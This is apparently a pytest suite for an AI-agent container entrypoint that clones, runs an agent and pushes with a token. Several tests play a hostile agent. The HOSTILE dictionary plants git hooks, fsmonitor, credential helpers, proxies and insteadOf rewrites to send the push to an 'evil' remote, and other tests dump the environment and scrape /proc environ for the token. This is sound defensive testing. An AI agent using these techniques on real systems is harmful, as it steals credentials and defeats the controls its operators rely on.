"""The agent image's entrypoint (deploy/agent/entrypoint.py), run here as plain processes:
clone onto the run's branch, feed stdin and close it after `result`, tag stderr, push; and
push with a token to a remote that checks it while the agent has turned the workspace
against the push (hooks, fsmonitor, pushurl, insteadOf, a symlinked .git, commondir)."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentfarm.backends.kubernetes import config, manifests
from agentfarm.domain import models
from agentfarm.domain.launch import AgentCommand, LaunchSpec
from agentfarm.settings import Settings
from tests import realparts
from tests.fakes import git_http

REPO = Path(__file__).resolve().parents[2]
ENTRYPOINT = REPO / "deploy" / "agent" / "entrypoint.py"


def git(*args: str, cwd: Path | None = None) -> str:
    base = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
    done = subprocess.run([*base, *args], cwd=cwd, capture_output=True, text=True, check=True)
    return done.stdout


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    origin = tmp_path / "origin.git"
    git("init", "-q", "--bare", "-b", "main", str(origin))
    seed = tmp_path / "seed"
    git("init", "-q", "-b", "main", str(seed))
    (seed / "README.md").write_text("x\n")
    git("add", ".", cwd=seed)
    git("commit", "-q", "-m", "init", cwd=seed)
    git("push", "-q", str(origin), "main", cwd=seed)
    (tmp_path / "ws").mkdir()
    (tmp_path / "home").mkdir()
    return dict(
        os.environ,
        HOME=str(tmp_path / "home"),
        AGENTFARM_REPO=f"file://{origin}",
        AGENTFARM_BASE_BRANCH="main",
        AGENTFARM_BRANCH="agentfarm/t1",
        AGENTFARM_WORKSPACE=str(tmp_path / "ws"),
        AGENTFARM_STDIN=str(tmp_path / "stdin"),
        AGENTFARM_CLOSE_STDIN_AFTER='["result"]',
        AGENTFARM_PUSH="1",
        AGENTFARM_GIT_CREDENTIALS="[]",
    )


def entrypoint(
    env: dict[str, str], *args: str, timeout: float = 60
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, str(ENTRYPOINT), *args],
        env=env, cwd=env["AGENTFARM_WORKSPACE"], capture_output=True, timeout=timeout, check=False,
    )  # fmt: skip


LINE_RE = re.compile(rb"\x1e([OEN])([0-9]+) (.*)")


def parse(stdout: bytes) -> list[tuple[str, str]]:
    """(kind, text) per line; the sequence numbers must count from 1 without a gap."""
    out: list[tuple[str, str]] = []
    for seq, line in enumerate(stdout.split(b"\n")[:-1], start=1):
        found = LINE_RE.fullmatch(line)
        assert found, line
        assert int(found.group(2)) == seq, line
        out.append((found.group(1).decode(), found.group(3).decode()))
    return out


def test_clone_run_and_push(env: dict[str, str], tmp_path: Path) -> None:
    assert entrypoint(env, "clone").returncode == 0
    Path(env["AGENTFARM_STDIN"]).write_text('"hello"\n')
    agent = tmp_path / "agent.sh"
    agent.write_text(
        '#!/bin/sh\nread line; echo "{\\"type\\":\\"system\\",\\"got\\":$line}"\n'
        "echo oops >&2; echo x > f.txt; git add f.txt; git commit -qm 'add f'\n"
        'echo \'{"type":"result"}\'; cat >/dev/null; echo closed\n'
    )
    agent.chmod(0o755)
    done = entrypoint(env, "run", "--", str(agent))
    assert done.returncode == 0
    lines = parse(done.stdout)
    # stdout and stderr are separate pipes: only the order within stdout is defined
    assert next(x for k, x in lines if k == "O") == '{"type":"system","got":"hello"}'
    assert ("E", "oops") in lines
    assert ("O", '{"type":"result"}') in lines
    assert ("O", "closed") in lines  # stdin was closed after the result line
    assert lines[-1][0] == "N"
    assert lines[-1][1].startswith("pushed 1 commit(s) to agentfarm/t1")
    origin = env["AGENTFARM_REPO"].removeprefix("file://")
    assert git("-C", origin, "log", "--format=%s", "agentfarm/t1").splitlines()[0] == "add f"


def test_a_follow_up_continues_its_branch_and_pushes_on_top(
    env: dict[str, str], tmp_path: Path
) -> None:
    """AGENTFARM_BASE_BRANCH == AGENTFARM_BRANCH: clone that branch and keep working on it
    (no new branch), then push fast-forward."""
    origin = env["AGENTFARM_REPO"].removeprefix("file://")
    agent = tmp_path / "agent.sh"
    agent.write_text("#!/bin/sh\necho $$ >> f.txt; git add f.txt; git commit -qm more\n")
    agent.chmod(0o755)
    assert entrypoint(env, "clone").returncode == 0
    assert entrypoint(env, "run", "--", str(agent)).returncode == 0
    first = git("-C", origin, "rev-parse", "agentfarm/t1").strip()
    (tmp_path / "ws2").mkdir()
    again = env | {
        "AGENTFARM_BASE_BRANCH": "agentfarm/t1",
        "AGENTFARM_WORKSPACE": str(tmp_path / "ws2"),
    }
    cloned = entrypoint(again, "clone")
    assert cloned.returncode == 0, cloned.stderr
    done = entrypoint(again, "run", "--", str(agent))
    lines = parse(done.stdout)
    assert lines[-1][1].startswith("pushed 1 commit(s) to agentfarm/t1")
    assert git("-C", origin, "rev-parse", "agentfarm/t1^").strip() == first
    # The outcome for the control plane's run.branch event comes just before.
    kind, text = lines[-2]
    assert kind == "N" and text.startswith("agentfarm.branch ")
    assert json.loads(text.removeprefix("agentfarm.branch ")) == {
        "branch": "agentfarm/t1",
        "start": first,
        "head": git("-C", origin, "rev-parse", "agentfarm/t1").strip(),
        "commits": 1,
        "pushed": True,
        "error": None,
    }


def test_no_commits_push_nothing_and_a_rejected_push_says_why(
    env: dict[str, str], tmp_path: Path
) -> None:
    origin = env["AGENTFARM_REPO"].removeprefix("file://")
    idle = tmp_path / "idle.sh"
    idle.write_text("#!/bin/sh\ntrue\n")
    idle.chmod(0o755)
    assert entrypoint(env, "clone").returncode == 0
    lines = parse(entrypoint(env, "run", "--", str(idle)).stdout)
    assert lines[-1] == ("N", "no commits on agentfarm/t1: nothing to push")
    outcome = json.loads(lines[-2][1].removeprefix("agentfarm.branch "))
    assert (outcome["commits"], outcome["pushed"], outcome["error"]) == (0, False, None)
    assert outcome["head"] == outcome["start"]
    # Someone else's commit on the branch meanwhile: the run's push is refused.
    seed = tmp_path / "other"
    git("clone", "-q", origin, str(seed))
    git("checkout", "-q", "-b", "agentfarm/t1", cwd=seed)
    (seed / "theirs.txt").write_text("theirs\n")
    git("add", ".", cwd=seed)
    git("commit", "-q", "-m", "theirs", cwd=seed)
    git("push", "-q", "origin", "agentfarm/t1", cwd=seed)
    worker = tmp_path / "worker.sh"
    worker.write_text("#!/bin/sh\necho x > f.txt; git add f.txt; git commit -qm mine\n")
    worker.chmod(0o755)
    lines = parse(entrypoint(env, "run", "--", str(worker)).stdout)
    assert lines[-1][1].startswith("pushing agentfarm/t1 failed: git push: ")
    outcome = json.loads(lines[-2][1].removeprefix("agentfarm.branch "))
    assert (outcome["commits"], outcome["pushed"]) == (1, False)
    assert "[rejected]" in outcome["error"] and "hint:" not in outcome["error"]


def test_clone_failure_is_one_clear_line_without_tokens(env: dict[str, str]) -> None:
    env |= {
        "AGENTFARM_REPO": "https://github.invalid/none/none.git",
        "AGENTFARM_GIT_CREDENTIALS": json.dumps(
            [{"url": "https://github.invalid/", "user": "x-access-token", "env": "GITHUB_TOKEN"}]
        ),
        "GITHUB_TOKEN": "ghp_supersecret",
    }
    done = entrypoint(env, "clone")
    assert done.returncode == 1
    err = done.stderr.decode()
    assert err.startswith("git clone:")
    assert "ghp_supersecret" not in err


@pytest.mark.integration
def test_real_claude_cli_through_the_entrypoint(env: dict[str, str]) -> None:
    from tests.fakes import anthropic_api

    tools = Path(os.environ.get("AGENTFARM_TOOLS", REPO / ".tools"))
    claude = tools / "node_modules" / ".bin" / "claude"
    if not claude.exists():
        realparts.missing("Claude Code CLI", "run make claude")
    assert entrypoint(env, "clone").returncode == 0
    message = {"type": "user", "message": {"role": "user",
               "content": anthropic_api.marker("write-and-commit")}}  # fmt: skip
    Path(env["AGENTFARM_STDIN"]).write_text(json.dumps(message) + "\n")
    with anthropic_api.FakeAnthropic() as fake:
        env |= {
            "ANTHROPIC_BASE_URL": fake.base_url,
            "ANTHROPIC_API_KEY": "fake",
            "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
            "CLAUDE_CODE_MAX_RETRIES": "0",
        }
        if os.geteuid() == 0:
            env["IS_SANDBOX"] = "1"
        done = entrypoint(
            env, "run", "--", str(claude), "-p", "--output-format", "stream-json", "--verbose",
            "--input-format", "stream-json", "--permission-mode", "bypassPermissions",
            timeout=120,
        )  # fmt: skip
    assert done.returncode == 0, done.stdout.decode()
    lines = parse(done.stdout)
    types = [json.loads(text)["type"] for kind, text in lines if kind == "O"]
    assert types[0] == "system"
    assert types[-1] == "result"
    assert lines[-1] == ("N", lines[-1][1])
    assert lines[-1][1].startswith("pushed 1 commit(s) to agentfarm/t1")


# --- a token-checking HTTP remote, and an agent that turns against the push -----------------

TOKEN = "glpat-entrypoint-test-0123456789"
SPY = '#!/bin/sh\n{{ echo "ARGS $*"; env; }} > "{leaks}/$(date +%s%N)-$$"\ncat >/dev/null\n'


def bare_with_main(path: Path) -> Path:
    git("init", "-q", "--bare", "-b", "main", str(path))
    seed = path.parent / f"{path.name}-seed"
    git("init", "-q", "-b", "main", str(seed))
    (seed / "README.md").write_text("x\n")
    git("add", ".", cwd=seed)
    git("commit", "-q", "-m", "init", cwd=seed)
    git("push", "-q", str(path), "main", cwd=seed)
    return path


@pytest.fixture
def remotes(tmp_path: Path) -> Iterator[tuple[git_http.GitHttpServer, git_http.GitHttpServer]]:
    """(the run's remote, which wants TOKEN; an attacker's remote, which records everything)"""
    for name in ("good", "evil"):
        (tmp_path / name).mkdir()
        bare_with_main(tmp_path / name / "repo.git")
    good = git_http.GitHttpServer(tmp_path / "good", token=TOKEN).start()
    evil = git_http.GitHttpServer(tmp_path / "evil").start()
    try:
        yield good, evil
    finally:
        good.stop()
        evil.stop()


def pod_env(run: models.Run, secrets: dict[str, str], tmp_path: Path) -> dict[str, str]:
    """The agent container's environment as Kubernetes would give it from the run's pod and
    Secret (secretKeyRefs resolved), with the pod's paths moved under ``tmp_path``."""
    command = AgentCommand(argv=["claude"], env={}, stdin=b"x\n", close_stdin_after=())
    cfg = config.resolve(run.spec, Settings(k8s_image="agent:1"))
    secret = manifests.build_secret(run, LaunchSpec.of(run.id, command, secrets), cfg)
    pod = manifests.build_pod(run, LaunchSpec.of(run.id, command, secrets), cfg)
    data = {k: base64.b64decode(v).decode() for k, v in secret["data"].items()}
    env = {"PATH": os.environ["PATH"]}
    for item in pod["spec"]["containers"][0]["env"]:
        ref = item.get("valueFrom", {}).get("secretKeyRef")
        env[item["name"]] = data[ref["key"]] if ref else item["value"]
    for name in ("ws", "home"):
        (tmp_path / name).mkdir(exist_ok=True)
    env |= {
        "HOME": str(tmp_path / "home"),
        "AGENTFARM_WORKSPACE": str(tmp_path / "ws"),
        "AGENTFARM_STDIN": str(tmp_path / "stdin"),
        "AGENTFARM_BRANCH": "agentfarm/t1",
        # The pod pushes as its agent exits, not at the control plane's ``finish``.
        "AGENTFARM_RESUME_WAIT": "0",
    }
    return env


def test_push_with_the_token_from_the_runs_secret(
    remotes: tuple[git_http.GitHttpServer, git_http.GitHttpServer], tmp_path: Path
) -> None:
    """Item 6: the token travels run Secret -> entrypoint -> Authorization header of the clone
    (in ``run``, before the agent: AGENTFARM_CLONE=1) and the push, to the run's remote only;
    the agent never sees it, and no git command line nor the workspace's .git/config holds
    it."""
    good, _ = remotes
    port = good.port
    spec = models.AgentSpec(repo=good.url("repo.git"), base_branch="main", backend="kubernetes")
    secrets = {
        f"GIT_TOKEN_127_0_0_1_{port}": TOKEN,
        "GIT_TOKEN_OTHER_EXAMPLE_ORG": "not-for-this-run",
        "ANTHROPIC_API_KEY": "sk-ant-x",
    }
    env = pod_env(models.Run(spec=spec), secrets, tmp_path)
    assert "GIT_TOKEN_OTHER_EXAMPLE_ORG" not in env
    assert env["AGENTFARM_CLONE"] == "1"
    argvs = tmp_path / "git-argv"
    shims = tmp_path / "shims"
    shims.mkdir()
    (shims / "git").write_text(
        f'#!/bin/sh\necho "$@" >> {argvs}\nexec {shutil.which("git")} "$@"\n'
    )
    (shims / "git").chmod(0o755)
    env["PATH"] = f"{shims}:{env['PATH']}"
    agent = tmp_path / "agent.sh"
    agent.write_text(
        f"#!/bin/sh\nenv > {tmp_path / 'agent-env'}\n"
        f"cp .git/config {tmp_path / 'agent-git-config'}\n"
        "echo x > f.txt; git add f.txt; git commit -qm 'add f'\n"
    )
    agent.chmod(0o755)
    done = entrypoint(env, "run", "--", str(agent))
    lines = parse(done.stdout)
    assert lines[0] == ("N", f"cloning {good.url('repo.git')}"), lines
    assert lines[1][1].startswith(f"cloned {good.url('repo.git')} at "), lines
    assert lines[-1] == ("N", lines[-1][1]) and "pushed 1 commit(s)" in lines[-1][1], lines
    assert TOKEN not in (tmp_path / "agent-env").read_text()
    seen_config = (tmp_path / "agent-git-config").read_text()
    assert TOKEN not in seen_config
    assert "name = agentfarm" in seen_config and "email = agentfarm@localhost" in seen_config
    assert TOKEN not in (tmp_path / "ws" / ".git" / "config").read_text()
    commands = argvs.read_text()
    assert "clone" in commands and "push" in commands
    for value in (TOKEN, base64.b64encode(f"oauth2:{TOKEN}".encode()).decode(), "Authorization"):
        assert value not in commands
    assert TOKEN not in done.stdout.decode() + done.stderr.decode()
    assert git("--git-dir", str(tmp_path / "good/repo.git"), "log", "-1", "--format=%s",
               "agentfarm/t1").strip() == "add f"  # fmt: skip
    assert good.passwords() == {TOKEN}  # every request carried it (clone and push)


HOSTILE = {
    # hooks in .git/hooks and in a hooksPath of the agent's choosing
    "hooks": "for h in pre-push post-checkout reference-transaction post-index-change "
    "pre-auto-gc push-to-checkout; do cp $SPY .git/hooks/$h; done; mkdir -p ../hooks2; "
    "cp $SPY ../hooks2/pre-push; git config core.hooksPath $PWD/../hooks2",
    "fsmonitor": "git config core.fsmonitor $SPY; git config core.untrackedCache true",
    "pushurl": "git config remote.origin.pushurl $EVIL",
    "insteadof": "git config url.$EVIL.insteadOf $GOOD; git config url.$EVIL.pushInsteadOf "
    "$GOOD; printf '[url \"%s\"]\\n\\tinsteadOf = %s\\n' $EVIL $GOOD > $HOME/.gitconfig",
    # config that would run a program or send the request elsewhere during a push
    "config": 'git config credential.helper "!$SPY"; git config core.sshCommand $SPY; '
    "git config http.proxy $EVILBASE; printf '[core]\\n\\tfsmonitor = %s\\n' $SPY > ../inc; "
    "git config include.path $PWD/../inc; git config filter.spy.clean $SPY; "
    "echo '* filter=spy' > .gitattributes; echo y >> f.txt",
    # the workspace's .git swapped for a symlink to a repository with a spy in its config
    "symlinked-git": "cp -r .git ../elsewhere.git; git --git-dir=../elsewhere.git config "
    "core.fsmonitor $SPY; rm -rf .git; ln -s ../elsewhere.git .git",
    # objects, refs and config taken from another directory
    "commondir": "mkdir ../common; cp -r .git/. ../common/; git --git-dir=../common config "
    "core.fsmonitor $SPY; echo ../../common > .git/commondir",
}
REFUSED = {"symlinked-git", "commondir"}
NOTHING_RUNS = {"hooks", "fsmonitor", "symlinked-git", "commondir"}


@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_a_hostile_workspace_neither_gets_the_token_nor_redirects_the_push(
    remotes: tuple[git_http.GitHttpServer, git_http.GitHttpServer], tmp_path: Path, attack: str
) -> None:
    """Item 5c: whatever the agent leaves in the workspace (and its HOME), the push runs no
    program of the agent's with the token and goes to the run's remote or nowhere."""
    good, evil = remotes
    spec = models.AgentSpec(repo=good.url("repo.git"), base_branch="main", backend="kubernetes")
    env = pod_env(models.Run(spec=spec), {f"GIT_TOKEN_127_0_0_1_{good.port}": TOKEN}, tmp_path)
    leaks = tmp_path / "leaks"
    leaks.mkdir()
    spy = tmp_path / "spy.sh"
    spy.write_text(SPY.format(leaks=leaks))
    spy.chmod(0o755)
    agent = tmp_path / "agent.sh"
    agent.write_text(
        f"#!/bin/sh\nset -e\nSPY={spy}; GOOD={good.url('repo.git')}; "
        f"EVIL={evil.url('repo.git')}; EVILBASE=http://127.0.0.1:{evil.port}\n"
        "echo x > f.txt; git add f.txt; git commit -qm 'add f'\n"
        f"{HOSTILE[attack]}\n"
    )
    agent.chmod(0o755)
    done = entrypoint(env, "run", "--", str(agent))
    assert done.returncode == 0, done.stdout
    last = parse(done.stdout)[-1]
    spied = "".join(path.read_text() for path in leaks.iterdir())
    assert TOKEN not in spied
    assert TOKEN not in done.stdout.decode() + done.stderr.decode()
    assert TOKEN not in evil.passwords()
    assert not evil.seen, evil.seen  # nothing at all went to the attacker's remote
    if attack in NOTHING_RUNS:
        assert spied == ""
    good_branch = subprocess.run(
        ["git", "--git-dir", str(tmp_path / "good/repo.git"), "log", "-1", "--format=%s",
         "agentfarm/t1", "--"], capture_output=True, text=True, check=False,
    )  # fmt: skip
    if attack in REFUSED:
        assert last[0] == "N" and last[1].startswith("not pushing agentfarm/t1"), last
        assert good_branch.returncode != 0  # nothing pushed
    else:
        assert last[0] == "N" and last[1].startswith("pushed 1 commit(s)"), last
        assert good_branch.stdout.strip() == "add f"
        assert good.passwords() == {TOKEN}


def test_only_the_credentials_file_of_the_shared_home_is_copied(
    env: dict[str, str], tmp_path: Path
) -> None:
    """Item 2b: the pod's own ~/.claude gets the shared login and nothing else of it (no
    settings.json with hooks, no agents, no commands)."""
    shared = tmp_path / "shared"
    (shared / "commands").mkdir(parents=True)
    (shared / ".credentials.json").write_text('{"claudeAiOauth": {"accessToken": "x"}}')
    (shared / "settings.json").write_text('{"hooks": {"Stop": []}}')
    (shared / "commands" / "evil.md").write_text("x")
    env["AGENTFARM_SHARED_CLAUDE"] = str(shared)
    env["AGENTFARM_PUSH"] = "0"
    agent = tmp_path / "agent.sh"
    agent.write_text("#!/bin/sh\nfind $HOME/.claude -printf '%P %m\\n'\n")
    agent.chmod(0o755)
    done = entrypoint(env, "run", "--", str(agent))
    assert done.returncode == 0
    assert sorted(text for kind, text in parse(done.stdout) if kind == "O") == [
        " 700",
        ".credentials.json 600",
    ]
    copied = tmp_path / "home" / ".claude" / ".credentials.json"
    assert copied.read_text() == (shared / ".credentials.json").read_text()

    # a symlink planted in the shared home (before it was read-only) is not followed
    (tmp_path / "home" / ".claude" / ".credentials.json").unlink()
    (shared / ".credentials.json").unlink()
    (shared / ".credentials.json").symlink_to(tmp_path / "stdin")
    Path(env["AGENTFARM_STDIN"]).write_text("secret prompt\n")
    done = entrypoint(env, "run", "--", str(agent))
    assert not copied.exists()
    assert any(
        k == "N" and "cannot read the shared credentials" in t for k, t in parse(done.stdout)
    )


def test_processes_the_agent_leaves_behind_are_gone_before_the_push(
    remotes: tuple[git_http.GitHttpServer, git_http.GitHttpServer], tmp_path: Path
) -> None:
    """As in the pod, the entrypoint is PID 1 of its own PID namespace (unshare): a process
    the agent left running to read the push's environment (same uid) is killed first. (PID 1's
    own environment, and its forks' until they exec, are kept from the agent in the pod by
    PR_SET_DUMPABLE, which makes them root's; in a user namespace the spy is that root, so it
    skips them here.)"""
    if subprocess.run(["unshare", "-Urpf", "--mount-proc", "true"], check=False).returncode:
        realparts.missing("unshare with user and PID namespaces", "apt-get install util-linux")
    good, _ = remotes
    spec = models.AgentSpec(repo=good.url("repo.git"), base_branch="main", backend="kubernetes")
    env = pod_env(models.Run(spec=spec), {f"GIT_TOKEN_127_0_0_1_{good.port}": TOKEN}, tmp_path)
    spied = tmp_path / "spied"
    agent = tmp_path / "agent.sh"
    agent.write_text(
        "#!/bin/sh\necho x > f.txt; git add f.txt; git commit -qm 'add f'\n"
        "setsid sh -c 'while :; do for e in /proc/[0-9]*/environ; do "
        "[ $e = /proc/1/environ ] && continue; "
        "grep -q entrypoint.py ${e%environ}cmdline && continue; "
        f'tr "\\0" "\\n" < $e >> {spied}; done; done\' </dev/null >/dev/null 2>&1 &\n'
        f"while ! [ -s {spied} ]; do sleep 0.05; done\n"  # the spy is at work
    )
    agent.chmod(0o755)
    done = subprocess.run(
        ["unshare", "-Urpf", "--mount-proc", sys.executable, str(ENTRYPOINT), "run", "--",
         str(agent)],
        env=env, cwd=env["AGENTFARM_WORKSPACE"], capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    last = parse(done.stdout)[-1]
    assert last[0] == "N" and last[1].startswith("pushed 1 commit(s)"), done
    assert good.passwords() == {TOKEN}
    seen = spied.read_text(errors="replace")
    assert "AGENTFARM_BRANCH" in seen  # it read environments...
    assert TOKEN not in seen and "Authorization" not in seen  # ...but never the push's


def test_a_process_left_holding_the_agents_output_does_not_keep_the_run_alive(
    env: dict[str, str], tmp_path: Path
) -> None:
    """The run ends when the agent does, even if something it started still holds its
    stdout (the entrypoint as PID 1 of its own PID namespace, as in the pod)."""
    if subprocess.run(["unshare", "-Urpf", "--mount-proc", "true"], check=False).returncode:
        realparts.missing("unshare with user and PID namespaces", "apt-get install util-linux")
    assert entrypoint(env, "clone").returncode == 0
    agent = tmp_path / "agent.sh"
    agent.write_text('#!/bin/sh\necho \'{"type":"result"}\'\nsleep 600 &\nexit 3\n')
    agent.chmod(0o755)
    done = subprocess.run(
        ["unshare", "-Urpf", "--mount-proc", sys.executable, str(ENTRYPOINT), "run", "--",
         str(agent)],
        env=env, cwd=env["AGENTFARM_WORKSPACE"], capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 3
    assert parse(done.stdout)[0] == ("O", '{"type":"result"}')
    assert parse(done.stdout)[-1] == ("N", "no commits on agentfarm/t1: nothing to push")
